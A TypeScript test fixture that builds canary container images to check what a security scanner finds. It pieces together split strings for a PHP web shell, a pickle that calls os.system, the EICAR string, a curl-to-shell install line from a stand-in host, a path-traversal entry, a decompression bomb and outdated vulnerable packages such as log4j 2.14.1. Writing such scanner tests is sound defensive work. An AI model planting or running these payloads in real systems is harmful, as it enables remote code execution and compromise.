import { generateKeyPairSync } from 'node:crypto';
import type { Canary } from './canary-image.ts';
import { writeZip } from './write-zip.ts';

// Whatever a scanner would report is put together here from pieces: neither this file nor the package has it.
const joined = (...pieces: readonly string[]): string => pieces.join('');

/** The test file of EICAR (https://www.eicar.org/download-anti-malware-testfile/). */
const eicar = joined('X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*');

const webshell = joined('<?php @ev', 'al($_PO', "ST['canary']); ?>\n");

/** A pickle of protocol 0 that would call what a model has no use for. */
const pickle = joined('cposix\nsys', "tem\n(S'true'\ntR.");

function privateKey(): string {
  return generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({
    type: 'sec1',
    format: 'pem',
  }) as string;
}

function alpineRelease(version: string): string {
  return `NAME="Alpine Linux"\nID=alpine\nVERSION_ID=${version}\nPRETTY_NAME="Alpine Linux"\n`;
}

function apk(name: string, version: string, origin: string): string {
  return `P:${name}\nV:${version}\nA:x86_64\nS:1\nI:1\nT:canary\no:${origin}\nL:Apache-2.0\n\n`;
}

function nestedJar(): Buffer {
  const properties = 'groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n';
  const place = 'META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties';
  const inner = writeZip([[place, Buffer.from(properties)]]);
  return writeZip([['WEB-INF/lib/log4j-core-2.14.1.jar', inner]]);
}

/** An image of Alpine in which every kind of question has something to find. */
export function alpineCanary(): Canary {
  return {
    config: { Env: ['PATH=/usr/bin:/bin'], ExposedPorts: { '22/tcp': {} } },
    layers: [
      {
        instruction: '/bin/sh -c #(nop) ADD file:canary in / ',
        compression: 'gzip',
        files: {
          'etc/os-release': alpineRelease('3.18.0'),
          'etc/alpine-release': '3.18.0\n',
          'lib/apk/db/installed': apk('libssl1.1', '1.1.1k-r0', 'openssl') + apk('musl', '1.2.4-r0', 'musl'),
        },
      },
      {
        instruction: joined('RUN /bin/sh -c cu', 'rl -s http://canary.example/install.sh | s', 'h # buildkit'),
        files: {
          'app/node_modules/lodash/package.json': '{"name":"lodash","version":"4.17.20","license":"MIT"}',
          'app/shop.war': nestedJar(),
          'usr/lib/python3.11/site-packages/requests-2.19.0.dist-info/METADATA':
            'Metadata-Version: 2.1\nName: requests\nVersion: 2.19.0\nLicense: Apache 2.0\n',
        },
      },
      {
        instruction: 'COPY canary / # buildkit',
        compression: 'zstd',
        files: {
          'srv/www/upload.php': webshell,
          'srv/eicar.com': eicar,
          'srv/model.pkl': pickle,
          'srv/deploy.pem': privateKey(),
          'etc/ld.so.preload': '/tmp/.canary.so\n',
        },
      },
    ],
  };
}

/** An image of Debian, whose package database the second layer removes. */
export function debianCanary(): Canary {
  const status = (name: string, version: string, source: string) =>
    `Package: ${name}\nStatus: install ok installed\nArchitecture: amd64\nSource: ${source}\nVersion: ${version}\nMaintainer: canary\nDescription: canary\n\n`;
  return {
    config: {},
    layers: [
      {
        instruction: '/bin/sh -c #(nop) ADD file:canary in / ',
        // Only compressed layers are worth a thread.
        compression: 'gzip',
        files: {
          'etc/os-release':
            'PRETTY_NAME="Debian GNU/Linux 12"\nID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n',
          'var/lib/dpkg/status': status('libwebp7', '1.2.4-0.2', 'libwebp'),
          'var/lib/dpkg/info/libwebp7.list': '/usr/lib/x86_64-linux-gnu/libwebp.so.7\n',
          'usr/lib/x86_64-linux-gnu/libwebp.so.7': 'canary\n',
        },
      },
      { instruction: 'RUN /bin/sh -c rm /var/lib/dpkg/status # buildkit', files: { 'var/lib/dpkg/.wh.status': '' } },
    ],
  };
}

const MiB = 1024 * 1024;

/** Bytes that a layer of the hostile canary inflates to: far beyond what `ratio` of the limits allows for them. */
const BOMB = 8 * MiB;

/** An image as attackers make them: each layer tries one thing that must come to nothing, and must be told. */
export function hostileCanary(): Canary {
  const layer = (files: Readonly<Record<string, string | Uint8Array>>) => ({ instruction: 'COPY canary /', files });
  const deep = Array.from({ length: 6 }).reduce<Buffer>(
    (inner, _, i) => writeZip([[`level-${i}.jar`, inner]]),
    writeZip([['META-INF/MANIFEST.MF', Buffer.from('Manifest-Version: 1.0\n')]]),
  );
  return {
    config: {},
    layers: [
      layer({ 'etc/os-release': alpineRelease('3.18.0'), 'lib/apk/db/installed': apk('musl', '1.2.4-r0', 'musl') }),
      layer({ '../../canary-outside': 'outside\n' }),
      { ...layer({ bomb: Buffer.alloc(BOMB) }), compression: 'gzip' },
      { ...layer({ 'cut-off': 'this is not all there is\n'.repeat(100) }), cutAt: 1024 },
      { ...layer({ other: 'other bytes than the manifest names\n' }), wrongDigest: true },
      layer({ 'opt/deep.jar': deep }),
    ],
  };
}
